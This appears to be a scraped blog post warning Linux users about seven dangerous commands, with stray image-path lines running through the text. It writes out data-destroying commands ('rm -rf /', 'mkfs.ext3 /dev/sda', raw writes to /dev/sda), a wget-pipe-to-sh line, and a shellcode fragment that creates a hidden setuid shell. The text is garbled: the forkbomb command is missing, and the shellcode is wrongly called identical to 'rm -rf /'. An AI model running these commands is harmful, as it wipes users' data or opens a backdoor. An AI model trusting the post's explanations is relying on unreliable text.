These Linux Commands Can Be Dangerous For Your Files

The command line is perhaps the most important bit about Linux. It makes you the master of your own computer and lets you manage and customise things the way you want. But, with great power comes great responsibility and there are some commands, which can end up damaging or removing your files

rm -rf /

This command is dangerous. Itforcefully and recursively deletes all files in your root directory.

char esp[] __attribute__ ((section(".text"))) /* e.s.p
release */
= "\xeb\x3e\x5b\x31\xc0\x50\x54\x5a\x83\xec\x64\x68"
"cp -p /bin/sh /tmp/.beyond; chmod 4755

The user found himself trapped in this hex. It is actually the same command as above, but disguised.

mkfs.ext3 /dev/sda

Files named after the mkfs command will all be reformatted or eiped out from your system.This command freezes your system. It does so by directing it to execute a large number of processes. It is known as 'forkbomb' in Linux circles.

any_command > /dev/sda

This command can result in total loss of all your data. It writes raw data to a block device.

wget http://some_untrusted_source -O- | sh

This is a malicious code that you may receive when you have downloaded something from untrusted sources.

mv /home/yourhomedirectory/* /dev/null

This command moves all home directory files to a sort of black hole in your system. Basically, the files get moved to a place, which doesn't exist and you never get to see them again.

Theseare perhaps the top seven of the most dangerous Linux commands. There are others as well, but these will be the ones that youmay usually come across. Now you're aware though, so keep coding.


Popular posts from this blog